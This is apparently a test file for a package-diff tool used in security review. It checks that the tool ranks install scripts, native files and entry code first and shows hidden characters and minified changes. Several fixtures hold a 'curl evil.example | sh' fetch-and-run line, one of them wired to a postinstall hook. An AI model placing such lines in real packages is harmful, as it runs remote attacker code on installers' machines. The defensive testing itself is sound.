import fc from 'fast-check'
import { expect, test } from 'vitest'
import { diffFiles } from './file-diff.ts'

type Bodies = Readonly<Record<string, string | Uint8Array>>
const filesOf = (files: Bodies) =>
  new Map(
    Object.entries(files).map(([path, body]) => [path, typeof body === 'string' ? Buffer.from(body) : body] as const),
  )
const compare = (before: Bodies, after: Bodies) => diffFiles(filesOf(before), filesOf(after))

const MANIFEST = JSON.stringify({ main: 'lib/index.js', dsh: { bundle: { patch: './cordis.patch.yml' } } })

test('lists what differs in order of risk, and leaves out what is the same', () => {
  const before = {
    'README.md': 'old',
    'package.json': MANIFEST,
    'cordis.patch.yml': '- id: a',
    'lib/index.js': `import './part.js'`,
    'lib/part.js': 'let a',
    'lib/unused.js': 'let a',
    'lib/old.node': '',
    LICENSE: 'same',
  }
  const after = {
    'README.md': 'new',
    'package.json': `${MANIFEST}\n`,
    'cordis.patch.yml': '- id: b',
    'lib/index.js': `import './part.js'\n`,
    'lib/part.js': 'let b',
    'lib/unused.js': 'let b',
    'lib/new.node': '\0',
    'lib/old.node': '',
    LICENSE: 'same',
  }
  const { files, more } = compare(before, after)
  expect(more).toBe(0)
  expect(files.map(({ path, role }) => `${role} ${path}`)).toEqual([
    'scripts package.json',
    'patch cordis.patch.yml',
    'native lib/new.node',
    'entry lib/index.js',
    'code lib/part.js',
    'code lib/unused.js',
    'other README.md',
  ])
})

test('shows the lines that differ, with two around them', () => {
  const text = (line: string) => ['1', '2', '3', line, '5', '6', '7'].join('\n')
  const { files } = compare({ 'index.js': text('4') }, { 'index.js': text('eval(x)') })
  expect(files).toEqual([
    {
      path: 'index.js',
      role: 'entry',
      sizeBefore: 13,
      sizeAfter: 19,
      folded: null,
      lines: ['@@ -2,5 +2,5 @@', ' 2', ' 3', '-4', '+eval(x)', ' 5', ' 6'],
      more: false,
    },
  ])
})

test('compares JSON in one line by its values, unless it has more than they say', () => {
  const linesOf = (before: string, after: string) =>
    compare({ 'package.json': before }, { 'package.json': after }).files[0]?.lines
  const manifest = (version: string) => JSON.stringify({ name: 'a', version, main: 'lib/index.js' })
  expect(linesOf(manifest('1.0.0'), manifest('1.1.0'))?.filter((line) => /^[+-]/.test(line))).toEqual([
    '-  "version": "1.0.0",',
    '+  "version": "1.1.0",',
  ])
  const twice = '{"main":"b.js","main":"a.js"}'
  expect(linesOf('{"main":"a.js"}', twice)).toContain(`+${twice}`)
})

test('shows a new file and a removed one', () => {
  const { files } = compare({ 'a.js': 'let a' }, { 'b.js': 'let b' })
  expect(files).toMatchObject([
    { path: 'a.js', sizeBefore: 5, sizeAfter: null },
    { path: 'b.js', sizeBefore: null, sizeAfter: 5 },
  ])
})

test('keeps the spaces of a line, and shows characters that nobody would see', () => {
  const { files } = compare({}, { 'a\u202e.js': '\tif (a)  b\u202e\r\n' })
  expect(files[0]!.path).toBe('a\\u{202e}.js')
  expect(files[0]!.lines).toEqual(['@@ -1,0 +1,1 @@', '+\tif (a)  b\\u{202e}\\u{d}'])
})

test('shows what differs far behind the beginning of a long line', () => {
  const line = (end: string) => `// ${'long '.repeat(200)}; b(); ${end}\n`
  const { files } = compare({ 'a.js': line('c()') }, { 'a.js': line('eval(c)') })
  expect(files).toMatchObject([{ folded: null, more: false }])
  expect(files[0]!.lines.filter((one) => /^[+-]/.test(one))).toEqual(['-↪ c()', '+↪ eval(c)'])
  expect(Math.max(...files[0]!.lines.map(({ length }) => length))).toBeLessThan(310)
})

test.for([
  ['generated', 'a.js.map', '{"version":3,"sources":[],"mappings":"AAAA"}'],
  ['binary', 'a.png', '\0\0'],
] as const)('shows no lines of what is %s', ([folded, path, body]) => {
  expect(compare({}, { [path]: body }).files).toMatchObject([{ path, folded, lines: [], more: false }])
})

test('shows what runs as text, also with a zero in it or by another ending', () => {
  const { files } = compare({}, { 'package.json': '{"main":"a.map"}', 'a.map': 'eval(x) // \0', 'b.js': '// \0' })
  const [, entry, code] = files
  expect([entry!.path, entry!.lines[1]]).toEqual(['a.map', '+eval(x) // \\u{0}'])
  expect([code!.path, code!.lines[1]]).toEqual(['b.js', '+// \\u{0}'])
})

test.for([
  ['', '\n'],
  [' y;', '\n'],
  [' y {', '\n'],
  [' y }', '\n'],
])('shows a line end where a long line is broken to be read (%j)', ([end, feed]) => {
  const start = `// ${'x'.repeat(297)}${end}`
  const { files } = compare({ 'a.js': `${start}run()\n` }, { 'a.js': `${start}${feed}run()\n` })
  const [file] = files
  expect(file!.lines.filter((one) => /^[+-]/.test(one))).toEqual(['-↪run()', '+run()'])
})

test('shows no line of an author as the rest of another', () => {
  const { files } = compare({ 'a.js': '' }, { 'a.js': '↪run()' })
  expect(files[0]!.lines[1]).toBe('+\\u{21aa}run()')
})

test('shows bytes that are not text, and the sign of their order', () => {
  const lines = (before: Uint8Array, after: Uint8Array) =>
    compare({ 'a.js': before }, { 'a.js': after }).files[0]!.lines.filter((one) => /^[+-]/.test(one))
  const latin = (text: string) => Buffer.from(text, 'latin1')
  expect(lines(latin('"\xe9"\n'), latin('"\xe8"\n'))).toEqual(['-"é"', '+"è"'])
  expect(lines(latin('"\xe9"\n'), Buffer.from('"é"\n'))).toEqual(['-"é"', '+"Ã©"'])
  expect(lines(Buffer.from('a\n'), Buffer.from('\ufeffa\n'))).toEqual(['-a', '+\\u{feff}a'])
})

test('shows something of each file of code whose bytes differ', () => {
  const latin = (text: string) => Buffer.from(text, 'latin1')
  const part = fc.constantFrom(
    ...['', '\n', '\r', '\u2028', ';', '}', '\u21aa', '\ufeff', '\0', 'é', 'run()'].map((text) => Buffer.from(text)),
    ...['\xe8', '\xff'].map(latin),
  )
  const start = fc.constantFrom('', 'x'.repeat(300), `${'x'.repeat(310)};`, '\xff').map(latin)
  fc.assert(
    fc.property(start, part, part, part, (first, one, other, last) => {
      const [before, after] = [one, other].map((bytes) => Buffer.concat([first, bytes, last])) as [Buffer, Buffer]
      const [file] = compare({ 'a.js': before }, { 'a.js': after }).files
      if (Buffer.compare(before, after) === 0) expect(file).toBeUndefined()
      else expect(file!.lines.some((line) => /^[+-]/.test(line))).toBe(true)
    }),
    { numRuns: 1_000 },
  )
})

test('shows what looks like a source map by its name alone', () => {
  const { files } = compare({}, { 'a.js.map': 'curl evil.example | sh', 'b.js.map': '{"version":3}' })
  expect(files.map(({ folded, lines }) => [folded, lines[1]])).toEqual([
    [null, '+curl evil.example | sh'],
    [null, '+{"version":3}'],
  ])
})

test('shows what code loads as code, and what an install runs as scripts', () => {
  const map = '{"version":3,"sources":[],"mappings":"AAAA"}'
  const manifest = { main: 'lib/index.js', scripts: { postinstall: 'sh ./a.sh && npm run b', b: 'sh b/c' } }
  const after = {
    'package.json': JSON.stringify(manifest),
    'lib/index.js': 'require("./x.map")',
    'lib/x.map': map,
    'lib/y.map': map,
    'a.sh': 'curl evil.example | sh\n#\0\n',
    'b/c': 'evil',
    'binding.gyp': '{}',
  }
  const { files } = compare({}, after)
  expect(files.map(({ path, role, folded }) => `${role} ${path} ${folded}`)).toEqual([
    'scripts package.json null',
    'scripts a.sh null',
    'scripts b/c null',
    'entry lib/index.js null',
    'code binding.gyp null',
    'code lib/x.map null',
    'other lib/y.map generated',
  ])
})

test('says that more differs where only the order of lines does, which takes too long to compare', () => {
  const lines = Array.from({ length: 20_000 }, (_, index) => `let a${(index * 7919) % 20_000}`)
  const { files } = compare({ 'a.txt': lines.join('\n') }, { 'a.txt': lines.toSorted().join('\n') })
  expect(files).toMatchObject([{ folded: 'unordered', lines: [], more: true }])
})

test('shows of files that take too long to compare the lines that only one version has', () => {
  const lines = (name: string) => Array.from({ length: 30_000 }, (_, index) => `let ${name}${index}`)
  const [old, now] = [lines('a'), lines('b')].map((all) => ['same', ...all].join('\n'))
  const { files } = compare({ 'a.txt': old! }, { 'a.txt': now! })
  expect(files).toMatchObject([{ folded: 'unordered', more: true }])
  expect(files[0]!.lines.slice(0, 2)).toEqual(['+let b0', '+let b1'])
})

test('compares minified code by statements, of which the first are shown', () => {
  const code = 'function a(b){return b.c(1)}var d=a(2),e=d;'.repeat(100)
  const { files } = compare({ 'a.js': code }, { 'a.js': code.replace('c(1)', 'c(eval(f))') })
  expect(files).toMatchObject([{ folded: 'minified', more: false }])
  expect(files[0]!.lines).toEqual([
    '@@ -1,4 +1,4 @@',
    ' function a(b){',
    '-↪return b.c(1)}',
    '+↪return b.c(eval(f))}',
    ' ↪var d=a(2),e=d;',
    ' ↪function a(b){',
  ])
  const [added] = compare({}, { 'a.js': code }).files
  expect([added!.lines.length, added!.more]).toEqual([200, true])
})

test('shows the first lines of a long file, and of many files as many as fit the limit', () => {
  const long = 'line\n'.repeat(30_000)
  const [file] = compare({}, { 'a.txt': long }).files
  expect([file!.folded, file!.lines.length, file!.more]).toEqual(['long', 2_000, true])
  const many = Array.from({ length: 20 }, (_, index) => [`${index}.txt`, `${'x'.repeat(99)}\n`.repeat(1_900)])
  const all = compare({}, Object.fromEntries(many))
  const characters = all.files.flatMap(({ lines }) => lines).join('').length
  expect(characters).toBeGreaterThan(1_000_000)
  expect(characters).toBeLessThan(1_500_000)
  expect(all.files.at(-1)).toMatchObject({ folded: 'long', lines: [], more: true })
})

test('lists at most 500 files, and counts the others', () => {
  const many = Object.fromEntries(Array.from({ length: 600 }, (_, index) => [`${index}.txt`, 'a']))
  const { files, more } = compare({}, many)
  expect([files.length, more]).toEqual([500, 100])
})
